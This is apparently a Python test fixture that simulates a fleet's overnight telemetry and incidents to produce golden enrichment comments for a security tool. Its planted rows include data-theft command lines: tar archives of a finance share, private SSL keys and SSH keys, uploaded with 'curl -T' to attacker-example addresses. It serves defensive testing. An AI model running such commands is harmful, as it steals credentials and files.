"""The night on which the golden comments are written: a fleet, what happened on it, and incidents about that."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING

from sandbox.telemetry.generation import device_id
from sandbox.telemetry.rows import connected, ran, wrote
from sandbox.tenant import evidence, incidents, sentinel
from shared.watch import look
from shared.work import work_on

from .hunt_files import six_hunts
from .sentinel_bodies import entity
from .tenant import Deployment, Fleet

if TYPE_CHECKING:
    from collections.abc import Callable

    from sandbox.telemetry.engine import Row
    from sandbox.tenant.evidence import Evidence, Incident

#: Three in the morning, in a year so far off that no run of it has expired. The hunts' windows are open, as they are when an
#: incident has just opened.
NOW = datetime(2126, 3, 10, 3, tzinfo=UTC)
#: An address and a site that attackers use, and a file of theirs.
KEYS = "203.0.113.99"
UPLOADS, SITE, HASH = (
    "203.0.113.66",
    "https://kit.evil.example/a.sh",
    "9f2c1d6a5b8e4f7091a2b3c4d5e6f708192a3b4c",
)
#: Devices that report, and do nothing else.
QUIET_SERVER, QUIET_DESKTOP = "srv-quiet.contoso.com", "wks-quiet.contoso.com"
ACCOUNT = {
    "@odata.type": "#microsoft.graph.security.userEvidence", "verdict": "suspicious",
    "userAccount": {"userPrincipalName": "anna@contoso.com", "accountName": "anna", "domainName": "CONTOSO"},
}  # fmt: skip
MAIL = {
    "@odata.type": "#microsoft.graph.security.analyzedMessageEvidence", "verdict": "suspicious",
    "networkMessageId": "af40b8a5-f5c5-4a6f-a3ac-08de6a4a5d54", "subject": "Invoice 4711",
    "recipientEmailAddress": "anna@contoso.com", "senderIp": "203.0.113.90", "urls": ["https://login.evil.example/o"],
    "p1Sender": {"emailAddress": "billing@evil.example", "domainName": "evil.example"},
    "p2Sender": {"emailAddress": "billing@evil.example", "domainName": "evil.example"},
}  # fmt: skip
APP = {
    "@odata.type": "#microsoft.graph.security.oauthApplicationEvidence", "verdict": "suspicious",
    "displayName": "Invoice helper", "appId": "7b1f0c5e-0d9e-4e0c-9a2e-0d5f5a0b9f11",
}  # fmt: skip


def night() -> Fleet:
    """Return a fleet of its own, with what happened tonight, and six hunts that no new file changes."""
    fleet = Fleet(end=NOW)
    fleet.catalog = six_hunts()
    for table, row in _happened():
        fleet.engine.load(table, [row])
    return fleet


def _happened() -> list[tuple[str, Row]]:
    """Return what happened tonight beside the planted intrusions, each as (table, row)."""
    at = NOW - timedelta(minutes=50)
    pc, downloads, sent = "pc-003.contoso.com", "/home/user/Downloads/", timedelta(minutes=3)
    tar = "tar.exe -c -f C:\\Users\\Public\\q3.tar C:\\Shares\\finance"
    curl = f"curl.exe -T C:\\Users\\Public\\q3.tar https://{UPLOADS}/u"
    return [
        *_reports(QUIET_SERVER, "Server"),
        *_reports(QUIET_DESKTOP, "Workstation"),
        # The tools of Windows: no hunt of these knows them.
        ran(pc, at, "tar.exe", tar, "user7"),
        connected(pc, at + sent, "curl.exe", curl, "user7", UPLOADS),
        # A server that else does nothing packs, and sends.
        ran("srv-pack.contoso.com", at, "tar", "tar -czf /var/tmp/.cache/x.tgz /etc/ssl/private /home/deploy/.ssh", "deploy"),
        connected("srv-pack.contoso.com", at + sent, "curl", f"curl -sS -T /var/tmp/.cache/x.tgz https://{KEYS}/inbox/", "deploy", KEYS),
        *_reports("srv-pack.contoso.com", "Server"),
        *(connected("srv-pack.contoso.com", at - n * timedelta(hours=2), "http", "/usr/lib/apt/methods/http", "_apt", f"198.51.100.{n}", "deb.example")
          for n in range(1, 7)),
        # One file on three devices.
        *(wrote(on, at + n * sent, downloads, "a.sh", HASH, SITE, "", "203.0.113.45")
          for n, on in enumerate(("wks-006.contoso.com", "wks-008.contoso.com", "srv-5.contoso.com"))),
    ]  # fmt: skip


def _reports(name: str, kind: str) -> list[tuple[str, Row]]:
    """Return reports of a Linux device that is not in the fleet, one every six hours."""
    return [
        ("DeviceInfo", {
            "Timestamp": NOW - timedelta(hours=hours, minutes=7), "DeviceId": device_id(name), "DeviceName": name,
            "DeviceType": kind, "OSPlatform": "Linux", "OSDistribution": "Ubuntu", "OnboardingStatus": "Onboarded",
        })
        for hours in range(0, 48, 6)
    ]  # fmt: skip


def opened(app: Deployment, title: str, *found: Evidence) -> Incident:
    """Open an incident with this evidence, about what happened from an hour ago on."""
    last = NOW - timedelta(minutes=30)
    one = evidence.incident(
        app.tenant.next_id(),
        title,
        "medium",
        "Execution",
        last - timedelta(minutes=30),
        last,
        *found,
        opened=NOW,
    )
    app.tenant.incidents[one["id"]] = one
    return one


def planted(name: str) -> Callable[[Deployment], Incident]:
    """Return what opens the planted incident of this name."""
    return lambda app: app.tenant.open(name) or {}


def about(title: str, *found: Evidence) -> Callable[[Deployment], Incident]:
    """Return what opens an incident with this evidence."""
    return lambda app: opened(app, title, *found)


def _forty(app: Deployment) -> Incident:
    devices = [evidence.device(name, platform) for name, platform in app.tenant.fleet[:40]]
    return opened(app, "Forty devices called one address", *devices, evidence.ip("203.0.113.9", "malicious"))


#: What opens each incident, by the name of its golden files.
CASES: dict[str, Callable[[Deployment], Incident]] = {
    "server": planted("exfiltration"),
    "desktop": planted("download"),
    "merged": planted("merged"),
    "windows": about(
        "Archive sent from a Windows client", evidence.device("pc-003.contoso.com", "Windows11"), evidence.ip(UPLOADS, "malicious")
    ),
    "silent": planted("silent"),
    "forty-devices": _forty,
    "hash-only": about("A listed file", evidence.file("", "", "", HASH, "malicious")),
    "mail-only": about("Phishing mail delivered", MAIL),
    "account-only": about("Sign-in from an unfamiliar place", ACCOUNT),
    "app-only": about("Consent to an unusual app", APP),
    "spread": about("Script downloaded on wks-006", evidence.device("wks-006.contoso.com"), evidence.url(SITE, "malicious")),
    "archive-found": about("Archive of keys", evidence.device("srv-pack.contoso.com"), evidence.ip(KEYS, "malicious")),
    "archive-not": about("Archive on srv-3", evidence.device("srv-3.contoso.com")),
    "origin-found": about("A listed site", evidence.url(SITE, "malicious")),
    "origin-not": planted("benign"),
    "server-ordinary": about("Scan from srv-2", evidence.device("srv-2.contoso.com")),
    "server-quiet": about("Scan from srv-quiet", evidence.device(QUIET_SERVER)),
    "desktop-ordinary": about("Alert on wks-010", evidence.device("wks-010.contoso.com")),
    "desktop-quiet": about("Alert on wks-quiet", evidence.device(QUIET_DESKTOP)),
}  # fmt: skip


#: Sentinel's own entities of what the sandbox does not show there.
ENTITIES = {
    "mail-only": entity(
        "MailMessage", subject=MAIL["subject"], recipient="anna@contoso.com", senderIP="203.0.113.90",
        urls=MAIL["urls"], p1SenderDomain="evil.example", networkMessageId=MAIL["networkMessageId"],
    ),
    "account-only": entity("Account", accountName="anna", upnSuffix="contoso.com", ntDomain="CONTOSO"),
    "app-only": entity("CloudApplication", appName=APP["displayName"], appId=4711),
}  # fmt: skip


async def text_of(app: Deployment, case: str) -> str:
    """Return the comment that an incident in Defender gets, with a made-up marker."""
    incident = CASES[case](app)
    await app.enrich(incidentId=incident["id"])
    # Where it was merged, the comment stands on the other incident.
    (text,) = app.all_comments
    return stable(text)


async def html_of(app: Deployment, case: str) -> str:
    """Return the comment that the same incident gets where it is Sentinel's own, with a made-up marker."""
    incident = CASES[case](app)
    del app.tenant.incidents[incident["id"]]
    app.tenant.standalone.append(incident)
    body = sentinel.trigger(app.tenant, incident)
    if case in ENTITIES:
        body["object"]["properties"]["relatedEntities"] = [ENTITIES[case]]
    run = await app.playbook(body)
    await work_on(app.tools, run)
    (html,) = app.sentinel_comments(incident)
    return stable(html)


async def grown(app: Deployment) -> list[str]:
    """Return the comments on an incident that the watch sees, and sees again when an alert has joined it."""
    incident = opened(app, "Alert on wks-006", evidence.device("wks-006.contoso.com"))
    for found in ((), (evidence.url(SITE, "malicious"), ACCOUNT)):
        if found:
            app.clock += timedelta(minutes=4)
            incidents.grow(app.tenant, incident, *found)
        await look(app.tools)
        runs = [run for queue, run, delay in app.messages if not delay]
        app.messages.clear()
        for run in runs:
            await work_on(app.tools, run)
    return [stable(text) for text in app.comments(incident["id"])]


def stable(comment: str) -> str:
    """Return a comment without what differs: the ids of its run and its findings, and packed queries in links."""
    comment = re.sub(r"(\?query=)[\w-]+", r"\g<1>packed", comment)
    marked = re.sub(r"Outrider [0-9a-f]{32} [0-9a-f]{32}", f"Outrider {'0' * 32} {'0' * 32}", comment)
    return re.sub(r"(/runs/)[0-9a-f]{32}", rf"\g<1>{'0' * 32}", marked)
